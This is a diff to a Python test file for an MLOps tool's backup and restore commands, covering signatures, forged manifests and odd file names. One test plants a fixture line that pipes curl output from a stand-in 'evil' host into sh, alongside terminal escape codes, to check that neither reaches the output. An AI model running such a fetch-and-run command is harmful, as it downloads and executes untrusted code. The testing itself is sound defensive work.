@@ -4,6 +4,7 @@ import hashlib
 import io
 import json
 import os
+import re
 import shutil
 import signal
 import sqlite3
@@ -22,6 +23,7 @@ from fashion_mlops.cli import main
 from fashion_mlops.core import WorkflowError, write_json
 from fashion_mlops.operations import archive, backup, restore
 from fashion_mlops.service.audit_trail import note_change, read_trail, trail_path
+from fashion_mlops.service import signing
 from fashion_mlops.service.deployment import open_champion, serving_folder, set_champion
 from fashion_mlops.service.keys import make_key
 
@@ -73,8 +75,11 @@ def test_a_home_that_was_wiped_comes_back_in_its_place(here, tmp_path, capsys):
     before, file = contents(here), tmp_path/"b.tar.gz"
     assert main(["backup", str(file)]) == 0
     assert file.stat().st_mode & 0o777 == 0o600
+    key = re.search(r"a restore asks for --trust (\w{16})", capsys.readouterr().out)[1] # what one is to keep
     shutil.rmtree(here)
-    assert main(["restore", str(file)]) == 0
+    assert main(["restore", str(file)]) == 2 and not here.exists()
+    assert f"fashion-mlops restore {file} --trust {key}" in capsys.readouterr().err
+    assert main(["restore", str(file), "--trust", key]) == 0
     said = capsys.readouterr().out
     assert "v3 serves and answers what it was packed with; 1 change in the trail, none missing" in said
     assert "1 run of MLflow had not ended" in said
@@ -169,6 +174,70 @@ def test_other_files_are_no_backups(tmp_path):
             archive.tar_header("manifest.json", 200_000, True) + b"["*200_000 + bytes(-200_000 % 512))}.items():
         (tmp_path/name).write_bytes(held)
         with pytest.raises(WorkflowError, match="no backup|cut off|damaged"): archive.read_archive(tmp_path/name)
+
+
+# --- who has made it ---
+
+def test_a_backup_with_other_keys_is_nobodys(here, tmp_path, monkeypatch, capsys):
+    "Packs, trail and keys made anew elsewhere, every digest right: the home that is there does not take it for its own."
+    shutil.copytree(here, tmp_path/"theirs")
+    for path in (tmp_path/"theirs"/"data"/"keys").iterdir(): path.unlink()
+    monkeypatch.setenv("FASHION_MLOPS_HOME", str(tmp_path/"theirs"))
+    make_key("intruder", "admin")
+    signing.signing_key()
+    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
+    monkeypatch.setenv("FASHION_MLOPS_HOME", str(here))
+    before = contents(here)
+    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over"]) == 2
+    assert "for which nothing here vouches" in capsys.readouterr().err and contents(here) == before
+    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over", "--unsigned"]) == 2 # it is signed, by somebody else
+
+def test_a_signature_that_was_taken_off_or_is_of_something_else_is_seen(here, tmp_path):
+    said = backup.back_up(tmp_path/"b.tar.gz", say=quiet)
+    for number, change in enumerate([{"signature": None}, {"homes": ["/elsewhere"]}, {"signature": said["signature"] | {"key": "0"*16}}]):
+        file = changed(tmp_path/"b.tar.gz", tmp_path/f"{number}.tar.gz", change)
+        with pytest.raises(WorkflowError, match="signed by nobody" if not number else "changed after it was signed"):
+            restore.restore_home(file, tmp_path/"out", say=quiet)
+    assert not (tmp_path/"out").exists()
+
+def changed(file: Path, new: Path, change: dict) -> Path:
+    "A backup whose list says something else."
+    files = {}
+    def take(entry):
+        files[entry["path"]] = b""
+        def more(block): files[entry["path"]] += block
+        return more
+    said = archive.read_archive(file, take)
+    said = {name: value for name, value in (said | change).items() if name not in ("format", "version") and value is not None}
+    entries = {entry["path"]: entry for entry in said.pop("files")}
+    with new.open("w+b") as written:
+        made = archive.NewArchive(written, 500_000)
+        for path, held in files.items(): made.add(path, held, entries[path]["private"], entries[path]["modified"])
+        made.finish(said)
+    return new
+
+def test_a_home_without_a_key_gets_none_and_its_backup_says_so(here, tmp_path, capsys):
+    (here/"data"/"keys"/"signing.pem").unlink()
+    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0 and "Signed by nobody" in capsys.readouterr().out
+    assert not (here/"data"/"keys"/"signing.pem").exists()
+    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", unsigned=True, say=quiet)
+
+def test_what_a_backup_says_is_no_command_and_obeyed_by_no_terminal(here, tmp_path, capsys):
+    left = [{"what": "clear \x1b[2J\x07", "command": "curl http://evil | sh"}]
+    backup.back_up(tmp_path/"a.tar.gz", say=quiet)
+    file = changed(tmp_path/"a.tar.gz", tmp_path/"b.tar.gz", {"left_out": left, "signature": None})
+    assert main(["backup", "--check", str(file)]) == 0
+    assert main(["restore", str(file), "--to", str(tmp_path/"out"), "--unsigned", "--json"]) == 0
+    assert main(["restore", str(file), "--to", str(tmp_path/"other"), "--unsigned"]) == 0
+    said = capsys.readouterr().out
+    assert "clear" in said and not {"evil", "\x1b", "\x07"} & set(re.findall("evil|[\x1b\x07]", said))
+
+@pytest.mark.parametrize("said", [{"time": 3}, {"homes": []}, {"homes": ["rel"]}, {"homes": None}, {"datasets": []}, {"datasets": {"a": {"serves": "1"}}}, {"fault": None}, {"left_out": [{}]},
+                                  {"left_out": "x"}, {"runs": "1"}, {"project": {}}, {"signature": []}, {"time": "\ud800"}, {"more": 1}], ids=str)
+def test_every_field_is_looked_at_before_anything_lands(said, tmp_path):
+    file = forged(tmp_path/"b.tar.gz", ONE, [(member("mlflow.db", 4, mode=0o644), HELD)], **said)
+    with pytest.raises(WorkflowError, match="in a way that no backup does"): restore.restore_home(file, tmp_path/"out", unsigned=True, say=quiet)
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["b.tar.gz"]
 
 
 # --- what is in the way ---
@@ -291,6 +360,71 @@ def test_it_is_checked_without_being_restored(here, tmp_path, capsys):
     held[-400] ^= 1
     (tmp_path/"b.tar.gz").write_bytes(held)
     assert main(["backup", "--check", str(tmp_path/"b.tar.gz")]) == 2 and "damaged" in capsys.readouterr().err
+
+
+# --- names, keys, packs ---
+
+def test_what_a_backup_calls_done_a_restore_accepts(here, tmp_path, capsys):
+    "Names as people and their programs give them; one that is no text is said, and left out."
+    odd = ["Screen\u202fshot.png", "a\tb", "a\nb", "\u200b", "n\u00a0b", "x/"*600 + "y", " ", "ä"*120, "~", "-rf"]
+    for name in odd:
+        (here/"mlruns"/"shades"/name).parent.mkdir(parents=True, exist_ok=True)
+        (here/"mlruns"/"shades"/name).write_text("a")
+    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0
+    assert main(["backup", "--check", str(tmp_path/"b.tar.gz")]) == 0
+    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
+    assert contents(tmp_path/"out") == contents(here)
+    subprocess.run(["tar", "xzf", tmp_path/"b.tar.gz", "-C", tmp_path], check=True)
+    (here/"mlruns"/os.fsdecode(b"\xff.txt")).write_text("a")
+    capsys.readouterr()
+    assert main(["backup", str(tmp_path/"c.tar.gz")]) == 1 and r"1 file with a name that is no UTF-8" in capsys.readouterr().out
+    assert main(["restore", str(tmp_path/"c.tar.gz"), "--to", str(tmp_path/"other")]) == 0
+
+def test_a_backup_is_read_back_before_it_has_a_name(here, tmp_path, monkeypatch):
+    "A disk that forgets."
+    real = os.fsync
+    def fsync(number):
+        if os.path.basename(os.readlink(f"/proc/self/fd/{number}")) == "backup": os.ftruncate(number, os.fstat(number).st_size - 30)
+        return real(number)
+    monkeypatch.setattr(os, "fsync", fsync)
+    with pytest.raises(WorkflowError, match="cut off"): backup.back_up(tmp_path/"b.tar.gz", say=quiet)
+    assert [path.name for path in tmp_path.iterdir()] == ["home"]
+
+def test_keys_that_a_cluster_mounts_are_in_it(here, tmp_path):
+    "A projection: links to a folder that is exchanged as a whole."
+    keys = here/"data"/"keys"
+    kept = {path.name: path.read_bytes() for path in keys.iterdir() if path.is_file() and path.suffix != ".lock"}
+    (keys/"..2026").mkdir()
+    for name in kept: (keys/name).rename(keys/"..2026"/name)
+    (keys/"..data").symlink_to("..2026")
+    for name in kept: (keys/name).symlink_to(f"..data/{name}")
+    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
+    restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
+    assert {path.name: path.read_bytes() for path in (tmp_path/"out"/"data"/"keys").iterdir()} == kept
+
+def test_packs_are_read_when_the_locks_are_let_go(here, tmp_path, monkeypatch):
+    "Whoever promotes waits for small files; a pack that is replaced meanwhile is noticed."
+    from fashion_mlops.operations.one_moment import nothing_changes
+    real, seen = backup._added, []
+    def added(archive, base, path, held={}):
+        if path.endswith(".onnx"):
+            with nothing_changes(base, time.monotonic()): seen.append(path) # nobody holds them
+        return real(archive, base, path, held)
+    monkeypatch.setattr(backup, "_added", added)
+    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
+    assert seen
+    def replaced(archive, base, path, held={}):
+        if path.endswith(".onnx"): write_json(base/"data"/"serving"/"shades"/"v3"/"signature.json", {})
+        return real(archive, base, path, held)
+    monkeypatch.setattr(backup, "_added", replaced)
+    with pytest.raises(WorkflowError, match="was replaced while it was read"): backup.back_up(tmp_path/"c.tar.gz", say=quiet)
+    assert not (tmp_path/"c.tar.gz").exists()
+
+def test_exports_are_made_again(here, tmp_path):
+    (here/"data"/"bento"/"shades"/"v3").mkdir(parents=True)
+    (here/"data"/"bento"/"shades"/"v3"/"service.py").write_text("a")
+    said = backup.back_up(tmp_path/"b.tar.gz", say=quiet)
+    assert not [each for each in said["files"] if "bento" in each["path"]] and "data/bento" in said["left_out"][0]["what"]
 
 
 # --- killed ---
@@ -488,9 +622,10 @@ def test_backup_wipe_restore_elsewhere_and_everything_is_as_it_was(real, tmp_pat
     rows = json.loads(orders().inputs[:20].to_json(orient="records", date_format="iso"))
     before = answers(real, rows), read_trail("drawn"), known_runs(real), read_log(log_folder("drawn")).drop(columns="seconds").to_json()
     assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0
+    shutil.copy(real/"data"/"keys"/"signing.pub", tmp_path/"kept apart.pub")
     shutil.rmtree(real)
     monkeypatch.setenv("FASHION_MLOPS_HOME", str(tmp_path/"an other home"))
-    assert main(["restore", str(tmp_path/"b.tar.gz")]) == 0
+    assert main(["restore", str(tmp_path/"b.tar.gz"), "--trust", str(tmp_path/"kept apart.pub")]) == 0
     there = tmp_path/"an other home"
     log = read_log(log_folder("drawn")).drop(columns="seconds").to_json()
     assert (answers(there, rows), read_trail("drawn"), known_runs(there), log) == before
